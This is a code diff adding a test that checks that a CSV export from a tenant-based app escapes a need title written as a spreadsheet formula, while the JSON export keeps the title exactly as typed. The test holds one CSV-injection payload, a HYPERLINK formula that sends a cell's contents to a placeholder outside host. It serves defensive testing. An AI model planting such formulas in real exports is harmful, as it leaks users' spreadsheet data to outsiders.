@@ -23,7 +23,7 @@ from samverka.tenants.models import RoleAssignment
 from samverka.tenants.services.principals import load_principal
 from tests.jobs.harness import mails_to, part
 from tests.platform.needs.support import register_need
-from tests.platform.portability.factories import make_export
+from tests.platform.portability.factories import export_now, make_export, unzip
 from tests.support import services as test_services
 from tests.support.api import assert_error_shape, signed_in
 from tests.support.forms import csrf_from
@@ -219,3 +219,12 @@ def test_the_role_assignment_is_what_the_job_checks(app, tenant_a):
         ).all()
     assert roles == ["it_coordinator"]
     assert _export(app, make_export(app, tenant_a)).status == READY
+
+
+def test_a_need_title_written_as_a_formula_is_text_in_the_archives_csv(app, tenant_a):
+    hostile = '=HYPERLINK("https://example.invalid/?"&A1,"Klikk")'
+    register_need(app, tenant_a.people["it"], tenant_a.tenant_id, title=hostile)
+    files = unzip(export_now(app, tenant_a.tenant_id))
+    table = files["csv/needs.csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in table and ",=HYPERLINK" not in table and '"=HYPERLINK' not in table
+    assert any(row["title"] == hostile for row in json.loads(files["data/needs.json"]))  # the data keeps it as typed
